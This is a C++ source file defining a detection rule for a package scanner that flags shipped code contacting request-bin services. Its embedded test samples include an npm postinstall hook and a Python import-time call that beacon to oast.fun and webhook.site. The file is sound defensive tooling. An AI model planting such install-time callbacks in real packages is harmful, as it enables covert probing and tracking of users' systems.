#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || !is_shipped(action)) continue;
    if (destination_of(action.target).kind != HostKind::request_bin) continue;
    const Severity severity = runs_uncalled(action) ? Severity::critical : Severity::high;
    findings.add(severity, action.where,
                 sentence("contacts the request bin " + shown_target(action), action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule contacts_request_bin = {
    .id = "contacts-request-bin",
    .title = "The package calls a request bin",
    .why =
        "A request bin shows whoever opened it every request that arrives. Probes for "
        "dependency confusion and data thieves use them because they need no server of their "
        "own; software that works has a server of its own.",
    .harmless_when =
        "The package is a client of that very service, and calls it with an address "
        "that its user gave.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "an install hook reports to a request bin",
     .expect = "index.js:2",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const https = require("https");
https.get("https://widget.oast.fun/installed");
)"},
    {.name = "a module reports when it is imported",
     .expect = "widget/__init__.py:2",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import urllib.request
urllib.request.urlopen("https://webhook.site/00000000-0000-0000-0000-000000000000")
)"},
    {.name = "a client of a service asks its own host",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const https = require("https");
exports.status = () => https.get("https://api.example.test/status");
)"},
};
extern const std::span<const Sample> contacts_request_bin_samples = samples;
#endif

}  // namespace assay::rules
